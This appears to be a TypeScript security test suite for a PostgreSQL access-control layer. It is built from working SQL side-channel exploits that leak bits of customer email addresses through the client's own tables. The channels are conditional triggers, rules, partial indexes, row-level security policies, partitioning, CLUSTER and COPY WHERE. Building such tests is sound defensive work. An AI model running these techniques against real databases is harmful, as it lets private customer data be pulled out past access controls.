/** Rows that a client brings, and that a class decides about: whether they stay, where they lie, in which order. What is read afterwards is the client's own. */

import { attackSuite, type Technique } from '../../support/attack.ts';
import { tokensOfBits } from '../../support/canaries.ts';
import { rowsOf, wire } from '../../support/wire-client.ts';

export const placedRows = attackSuite('placed-rows', {
  sql: `
    CREATE FUNCTION public.bit_of(k int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN (SELECT get_bit(('x' || right(email, 8))::bit(32), k % 32) FROM crm.customers WHERE id = k / 32); END $$;
    CREATE FUNCTION public.never() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NULL; END $$;
    CREATE FUNCTION public.if_set() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN IF public.bit_of(NEW.k) = 0 THEN RETURN NULL; END IF; RETURN NEW; END $$;
  `,
});
const { attack, group } = placedRows;

const CUSTOMERS = 210;
const FIRST = 32;
const LAST = 32 * CUSTOMERS + 31;
const KEYS = `generate_series(${FIRST}, ${LAST})`;
const BRING = `INSERT INTO public.OWN (k) SELECT ${KEYS}`;

/** `sql`: statements, OWN for the table; the last one gives the keys whose bit is set. */
const placed = (...sql: readonly string[]): Technique => async (attacker) => {
  const client = await attacker.connect();
  const said = sql.map((each) => each.replaceAll('OWN', attacker.own));
  for (const each of said.slice(0, -1)) {
    if (each.startsWith('COPY')) {
      client.send(wire.query(each), wire.copyData(Array.from({ length: LAST - FIRST + 1 }, (_, i) => `${FIRST + i}\n`).join('')), wire.copyDone);
      await client.ask([], 1, 30_000);
    } else await client.query(each, 60_000);
  }
  attacker.decoded += tokensOfBits(rowsOf(await client.query(said.at(-1) as string, 30_000)).map(([key]) => Number(String(key))));
};

const TABLE = 'CREATE TABLE public.OWN (k int, n int)';
const READ = 'SELECT k FROM public.OWN';

group('whether they stay', 'derived copies', () => {
  attack('a partial index, ON CONFLICT DO NOTHING', placed(TABLE, BRING, 'CREATE UNIQUE INDEX ON public.OWN (k) WHERE public.bit_of(k) = 1', `${BRING} ON CONFLICT DO NOTHING`, 'SELECT k FROM public.OWN GROUP BY k HAVING count(*) = 1'), 'lax');
  attack('a rule with a condition', placed(TABLE, 'CREATE RULE r AS ON INSERT TO public.OWN WHERE public.bit_of(NEW.k) = 0 DO INSTEAD NOTHING', BRING, READ), 'lax');
  attack('a trigger with a condition', placed(TABLE, 'CREATE TRIGGER t BEFORE INSERT ON public.OWN FOR EACH ROW WHEN (public.bit_of(NEW.k) = 0) EXECUTE FUNCTION public.never()', BRING, READ), 'lax');
  attack('a trigger that decides', placed(TABLE, 'CREATE TRIGGER t BEFORE INSERT ON public.OWN FOR EACH ROW EXECUTE FUNCTION public.if_set()', BRING, READ), 'lax');
  const bodies: readonly (readonly [string, string])[] = [
    ['sets a column under a condition', 'BEGIN IF public.bit_of(NEW.k) = 1 THEN NEW.n := 1; END IF; RETURN NEW; END'],
    ['decides by a variable', "DECLARE keep int := 0; BEGIN IF public.bit_of(NEW.k) = 1 THEN keep := 1; END IF; IF keep = 0 THEN RETURN NULL; END IF; NEW.n := 1; RETURN NEW; END"],
    ['decides by FOUND', "BEGIN PERFORM FROM crm.customers WHERE id = NEW.k / 32 AND get_bit(('x' || right(email, 8))::bit(32), NEW.k % 32) = 1; IF NOT FOUND THEN RETURN NULL; END IF; NEW.n := 1; RETURN NEW; END"],
    ['decides by an error', 'DECLARE x int; BEGIN BEGIN x := 1 / public.bit_of(NEW.k); EXCEPTION WHEN division_by_zero THEN RETURN NULL; END; NEW.n := 1; RETURN NEW; END'],
    ['decides by a loop', 'BEGIN FOR i IN 1 .. public.bit_of(NEW.k) LOOP NEW.n := 1; END LOOP; RETURN NEW; END'],
    ['decides by CASE', 'BEGIN CASE public.bit_of(NEW.k) WHEN 1 THEN NEW.n := 1; ELSE NULL; END CASE; RETURN NEW; END'],
    ['decides by WHILE', 'DECLARE i int := 0; BEGIN WHILE i < public.bit_of(NEW.k) LOOP i := i + 1; END LOOP; NEW.n := i; RETURN NEW; END'],
  ];
  for (const [name, body] of bodies) {
    attack(`a trigger that ${name}`, placed(TABLE, `CREATE FUNCTION public.OWN() RETURNS trigger LANGUAGE plpgsql AS $$ ${body} $$`, 'CREATE TRIGGER t BEFORE INSERT ON public.OWN FOR EACH ROW EXECUTE FUNCTION public.OWN()', BRING, 'SELECT k FROM public.OWN WHERE n = 1'), 'lax');
  }
  attack('COPY FROM with a condition', placed(TABLE, 'COPY public.OWN (k) FROM STDIN WHERE public.bit_of(k) = 1', READ), 'lax');
  attack('a policy, DELETE', placed(TABLE, BRING, 'ALTER TABLE public.OWN ENABLE ROW LEVEL SECURITY', 'ALTER TABLE public.OWN FORCE ROW LEVEL SECURITY', 'CREATE POLICY p ON public.OWN USING (public.bit_of(k) = 0)', 'DELETE FROM public.OWN', 'ALTER TABLE public.OWN DISABLE ROW LEVEL SECURITY', READ), 'lax');
  attack('DELETE with a condition', placed(TABLE, BRING, 'DELETE FROM public.OWN WHERE public.bit_of(k) = 0', READ), 'lax');
});

group('where they lie', 'derived copies', () => {
  attack('partitions by an expression', placed('CREATE TABLE public.OWN (k int) PARTITION BY LIST (public.bit_of(k))', 'CREATE TABLE public.OWN_0 PARTITION OF public.OWN FOR VALUES IN (0)', 'CREATE TABLE public.OWN_1 PARTITION OF public.OWN FOR VALUES IN (1)', BRING, "SELECT k FROM public.OWN WHERE tableoid = 'public.OWN_1'::regclass"), 'lax');
  attack('partitions by an expression, read one by one', placed('CREATE TABLE public.OWN (k int) PARTITION BY LIST (public.bit_of(k))', 'CREATE TABLE public.OWN_0 PARTITION OF public.OWN FOR VALUES IN (0)', 'CREATE TABLE public.OWN_1 PARTITION OF public.OWN FOR VALUES IN (1)', BRING, 'SELECT k FROM public.OWN_1'), 'lax');
  attack('CLUSTER by an index over an expression', placed(TABLE, BRING, 'CREATE INDEX OWN_i ON public.OWN (public.bit_of(k), k)', 'CLUSTER public.OWN USING OWN_i', 'SELECT k FROM (SELECT k, k < lag(k) OVER (ORDER BY ctid) AS turns, ctid FROM public.OWN) t WHERE ctid >= (SELECT min(ctid) FROM (SELECT ctid, k < lag(k) OVER (ORDER BY ctid) AS turns FROM public.OWN) u WHERE turns)'), 'lax');
  attack('rows that a trigger leaves as they are', placed(TABLE, BRING, 'CREATE TRIGGER t BEFORE UPDATE ON public.OWN FOR EACH ROW WHEN (public.bit_of(NEW.k) = 1) EXECUTE FUNCTION suppress_redundant_updates_trigger()', 'UPDATE public.OWN SET k = k', 'SELECT k FROM public.OWN WHERE xmin::text = (SELECT min(xmin::text::bigint)::text FROM public.OWN)'), 'lax');
});
